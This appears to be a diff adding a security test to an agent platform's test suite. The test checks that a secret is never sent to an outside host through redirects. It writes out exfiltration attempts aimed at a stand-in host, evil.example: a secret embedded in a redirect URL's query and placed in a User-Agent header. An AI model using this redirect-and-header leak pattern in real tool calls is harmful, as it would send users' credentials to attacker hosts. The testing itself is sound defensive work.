@@ -121,6 +121,30 @@ describe("a secret that names its hosts and agents", () => {
     expect(await uses(house)).toMatchObject([{ agentId: mine.id, spaceId: confidential.space.id, by: "two-mine" }]);
   });
 
+  test("[L9] follows no redirect to another host, in an address or as a browser's name", async () => {
+    const asked: string[] = [];
+    const real = globalThis.fetch.bind(globalThis);
+    const spy = vi.spyOn(globalThis, "fetch").mockImplementation(async (input, init) => {
+      const url = new URL(String(input));
+      if (!url.host.endsWith(".example")) return real(input, init);
+      asked.push(`${url.href} ${JSON.stringify(init?.headers)}`);
+      const location = url.searchParams.get("next") ?? "https://evil.example/";
+      return url.host === "api.example" ? new Response("", { status: 302, headers: { location } }) : Response.json({});
+    });
+    restore.push(() => spy.mockRestore());
+    const house = await openHouse();
+    await put(house, { hosts: ["api.example"] });
+    const ask = (name: string, url: string, headers = {}) =>
+      tool(name, "api.example", { execution: { url, method: "GET", headers } });
+    const inAddress = ask("in_address", `https://api.example/?next=https://evil.example/${key}`);
+    const inHeader = ask("in_header", "https://api.example/", { "User-Agent": key });
+    const agent = await house.agent({ name: "Worker", tools: [inAddress, inHeader] });
+    const made = await runTools(house, agent, ["in_address", "in_header"]);
+    expect(made.calls).toMatchObject([{ output: { error: { code: "tool_failed" } } }, { status: "complete" }]);
+    expect(asked).toHaveLength(3);
+    expect(asked.filter((each) => each.startsWith("https://evil.example") && each.includes("hunter2"))).toEqual([]);
+  });
+
   test("[L9] is sent by no model, embedder, MCP server or router to another host", async () => {
     const house = await openHouse();
     await put(house, { hosts: ["api.example.com"] });
